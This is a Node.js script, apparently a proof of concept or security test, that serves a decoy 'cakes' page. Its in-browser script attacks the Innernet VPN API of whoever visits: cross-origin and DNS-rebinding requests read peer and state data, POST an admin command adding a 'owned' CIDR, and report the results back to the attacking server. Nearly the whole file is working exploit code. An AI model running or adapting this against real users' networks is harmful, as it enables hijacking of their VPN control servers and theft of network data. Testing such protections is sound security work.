// A site that attacks the networks of whoever looks at it: serves a page, and prints what the page reports.
// @ts-check
//
// Arguments: its address, the API's place, the server's key, its own name as the browser's machine knows it.
import { createServer } from 'node:http';

const [address = '', api = '', key = '', name = ''] = process.argv.slice(2);
const port = Number(api.split(':')[1]);

/** Runs in the browser: every way to ask that a page has. Text, because it is nothing of ours that runs it. */
const script = `
const report = (what, outcome) => fetch('http://${address}:8000/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify([what, outcome]) });
const attempt = async (what, act) => report(what, await act().catch((error) => 'failed: ' + error.message));
const asked = async (url, options) => { const r = await fetch(url, { signal: AbortSignal.timeout(3000), ...options }); return r.type + ' ' + r.status + ' ' + (await r.text()); };
const streamed = (url) => new Promise((resolve) => {
  const socket = new WebSocket(url, ['innernet.v1']);
  socket.onmessage = ({ data }) => resolve('heard ' + data);
  socket.onopen = () => setTimeout(() => resolve('open'), 2000);
  socket.onclose = ({ code }) => resolve('failed: closed ' + code);
  setTimeout(() => resolve('failed: nothing in time'), 5000);
});
const headers = { 'X-Innernet-Server-Key': '${key}' };
const body = JSON.stringify({ id: 'page', command: { type: 'AddCidr', name: 'owned', cidr: '10.42.99.0/24' } });
const all = async (kind, origin, socket) => {
  for (const path of ['/v1/user/state', '/v1/admin/peers', '/v1/user/snapshot']) {
    await attempt(kind + ' plain', () => asked(origin + path));
    await attempt(kind + ' opaque', () => asked(origin + path, { mode: 'no-cors' }));
    await attempt(kind + ' with the key', () => asked(origin + path, { headers }));
  }
  await attempt(kind + ' command', () => asked(origin + '/v1/admin/commands', { method: 'POST', headers, body }));
  await attempt(kind + ' opaque command', () => asked(origin + '/v1/admin/commands', { method: 'POST', mode: 'no-cors', body }));
  await attempt(kind + ' stream', () => streamed(socket + '/v1/user/stream'));
};
`;
const page = (/** @type {string} */ act) =>
  `<!doctype html><title>cakes</title><script>${script}${act}</script>`;

const foreign = `all('foreign', 'http://${api}', 'ws://${api}').then(() => location = 'http://${name}:${port}/');`;
// Until the name leads elsewhere; browsers remember where it led for a minute at most.
const rebound = `(async () => {
  await fetch('/close').catch(() => {});
  for (let second = 0; second < 100; second += 1) {
    if (await fetch('/v1/user/capabilities', { signal: AbortSignal.timeout(3000) }).catch(() => undefined)) break;
    await new Promise((done) => setTimeout(done, 1000));
  }
  await all('rebound', '', 'ws://${name}:${port}');
  report('done', 'done');
})();`;

createServer((request, response) => {
  let text = '';
  request.on('data', (chunk) => (text += chunk));
  request.on('end', () => {
    if (request.url === '/report') console.log(text);
    response.setHeader('content-type', 'text/html').end(page(foreign));
  });
}).listen(8000, address);

const second = createServer((request, response) => {
  if (request.url === '/close') {
    second.close();
    second.closeAllConnections();
    console.log('closed');
    return;
  }
  response.setHeader('content-type', 'text/html').end(page(rebound));
}).listen(port, address, () => console.log('ready'));
